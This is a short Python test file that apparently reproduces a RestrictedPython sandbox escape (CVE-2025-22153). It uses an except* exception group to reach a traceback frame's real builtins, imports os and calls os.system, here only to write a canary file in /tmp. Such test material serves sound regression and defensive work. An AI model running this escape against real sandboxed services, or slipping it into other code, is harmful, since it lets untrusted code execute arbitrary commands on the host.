# source: RestrictedPython CVE-2025-22153
# effect: process

def fail():
    raise ValueError("inner")


errors = []
for attempt in [fail]:
    try:
        attempt()
    except ValueError as error:
        errors.append(error)
try:
    raise ExceptionGroup("outer", errors)
except* ValueError as group:
    frame = group.exceptions[0].__traceback__.tb_next.tb_frame
    frame.f_globals["__builtins__"].__import__("os").system("echo exception_groups/traceback_of_member > /tmp/canary/process")
